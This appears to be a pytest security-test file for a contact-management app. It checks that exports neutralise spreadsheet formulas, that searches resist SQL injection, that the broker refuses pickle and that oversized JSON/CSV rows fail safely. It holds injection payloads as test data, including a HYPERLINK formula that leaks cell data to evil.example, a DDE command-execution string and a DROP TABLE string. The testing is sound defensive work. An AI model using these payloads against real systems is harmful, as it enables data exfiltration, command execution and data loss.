"""Hostile data from outside, in spreadsheets, SQL, the broker and files."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import kombu
import pytest
import sqlalchemy as sa

from nurture.app.files.tabular import write_rows
from nurture.database.engine import Database
from nurture.database.schema import contacts
from nurture.inbound.files import open_table
from nurture.reports.contact_search import find_contacts
from tests.cli.shell import Shell
from tests.web.live import a_contact
from workers.application import app

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
]
HOSTILE = ["'; DROP TABLE contacts; --", "%", "_", "\\", "a' OR '1'='1", '"', "\x00", "${jndi}", "{{7*7}}"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_an_export_holds_no_formula(cell: str) -> None:
    stream = io.StringIO()
    write_rows(stream, iter([{"a": cell, "b": {"deep": cell}, "c": -5}]), ("a", "b", "c"), "csv")
    (row,) = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    assert row["a"].startswith("'")
    assert row["b"].startswith("{")
    assert row["c"] == "-5"
    assert stream.getvalue().splitlines()[0] == '"a","b","c"'


def test_hostile_text_in_an_export_is_the_same_text_read_back(nurture: Shell) -> None:
    nurture.install()
    for number, text in enumerate(FORMULAS):
        assert nurture("track", f"id:user-{number}", "Said", "-p", f"words={json.dumps(text)}").code == 0
    nurture.work()
    rows = list(csv.DictReader(io.StringIO(nurture("export", "events").out)))
    assert [json.loads(row["properties"])["words"] for row in rows if row["name"] == "Said"] == FORMULAS


@pytest.mark.parametrize("text", HOSTILE)
def test_a_search_text_is_a_value_and_never_sql(database: Database, text: str) -> None:
    number = a_contact(database)
    with database.read() as connection:
        found = find_contacts(connection, text.replace("\x00", ""), playbook=None)
        assert all(row.id == number for row in found)
        assert connection.scalar(sa.select(sa.func.count()).select_from(contacts)) == 1


@pytest.mark.parametrize("text", [text for text in HOSTILE if text not in ("\\", '"', "\x00")])
def test_a_text_in_a_condition_is_a_value_and_never_sql(nurture: Shell, text: str) -> None:
    nurture.install()
    answer = nurture("audience", f"locale == {text!r}", "--count", "--json")
    assert answer.code == 0, answer.err
    assert answer.document["yes"] == 0
    for expression in (f"{text} == 1", f"orders >= 1 {text}", f"locale == 'a' ORDER BY {text}"):
        refused = nurture("audience", expression, "--count")
        assert refused.code == 2
        assert "Traceback" not in refused.err


def test_reading_cannot_write(database: Database) -> None:
    with pytest.raises(sa.exc.DBAPIError, match=r"(?i)read-?only"), database.read() as connection:
        connection.execute(sa.text("DELETE FROM contacts"))


def test_the_broker_carries_json_and_nothing_that_runs(redis_url: str) -> None:
    assert (app.conf.task_serializer, list(app.conf.accept_content)) == ("json", ["json"])
    assert app.conf.result_backend is None
    with kombu.Connection(redis_url) as connection:
        queue = connection.SimpleQueue("security")
        queue.put({"a": Path("/")}, serializer="pickle")
        strict = kombu.Consumer(connection.channel(), [queue.queue], accept=app.conf.accept_content)
        refused: list[Any] = []
        strict.on_decode_error = lambda _, error: refused.append(error)
        strict.register_callback(lambda *_: pytest.fail("it was unpacked"))
        with strict:
            connection.drain_events(timeout=5)
        assert "ContentDisallowed" in type(refused[0]).__name__
        queue.close()


@pytest.fixture
def huge(tmp_path: Path) -> Path:
    path = tmp_path / "huge.jsonl"
    path.write_text(
        "[" * 40_000
        + "\n"
        + '{"a": "'
        + "x" * 100_000
        + '"}\n'
        + "{" * 30_000
        + "\n"
        + '{"email": "a@b.example"}\n'
    )
    return path


def test_a_row_that_is_a_bomb_costs_only_itself(huge: Path) -> None:
    rows = list(open_table(huge).records())
    assert [bool(row.fault) for row in rows] == [True, True, True, False]


def test_a_cell_that_is_a_bomb_is_reported_and_stops_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    path.write_text("email,a\nb@b.example,1\n" + "c@c.example," + "x" * 100_000 + "\n")
    rows = list(open_table(path).records())
    assert not rows[0].fault
    assert rows[-1].fault
